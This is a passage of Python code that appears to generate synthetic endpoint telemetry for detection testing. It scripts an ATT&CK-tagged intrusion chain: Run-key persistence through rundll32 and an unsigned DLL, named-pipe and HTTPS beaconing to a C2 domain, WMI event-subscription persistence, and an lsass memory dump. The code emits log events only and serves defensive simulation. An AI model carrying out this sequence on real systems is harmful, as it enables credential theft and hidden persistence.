                  r"HKU\S-1-5-21-1830255721-3727074217-2423397540-1106\Software\Microsoft\Windows\CurrentVersion\Run\Webcache",
                  r"rundll32.exe C:\Users\oscar\AppData\Roaming\Microsoft\kxwn.lock,VoidFunc", group="day2_lnk", technique="T1547.001")
        self.step(self.image_load, SYSTEM32 + "rundll32.exe", r"C:\Users\oscar\AppData\Roaming\Microsoft\kxwn.lock", signed="false",
                  group="day2_lnk", technique="T1218.011")
        for i, c, pipe_name, technique in HANDS_ON:
            self.step(self.process, i, c, pipe_name, group="day2_tools", technique=technique, level=self.choice(["High", "Medium"]),
                      pause=25)
        self.step(self.pipe, SYSTEM32 + "rundll32.exe", r"\msagent_3f", group="day2_c2", technique="T1055")
        self.step(self.query, SYSTEM32 + "rundll32.exe", "cdn-msupdate.net", "::ffff:192.168.0.4;", group="day2_c2",
                  technique="T1071.001")
        for _ in range(15):
            self.step(self.connection, SYSTEM32 + "rundll32.exe", "192.168.0.4", 443, group="day2_c2", technique="T1071.001", pause=30)
        self.step(self.registry, SYSTEM32 + r"wbem\WmiPrvSE.exe", r"HKLM\SOFTWARE\Microsoft\WBEM\ESS\//./root/CIMV2\Win32ClockProvider",
                  group="day2_wmi", technique="T1546.003")
        self.step(self.image_load, SYSTEM32 + r"wbem\scrcons.exe", r"C:\Windows\System32\wbem\fastprox.dll", group="day2_wmi",
                  technique="T1546.003")
        self.step(self.process_access, SYSTEM32 + "rundll32.exe", SYSTEM32 + "lsass.exe", "0x1fffff", group="day2_wmi",
                  technique="T1003.001")
        self.step(self.file, SYSTEM32 + "rundll32.exe", r"C:\Windows\Temp\l.dmp", group="day2_wmi", technique="T1003.001")
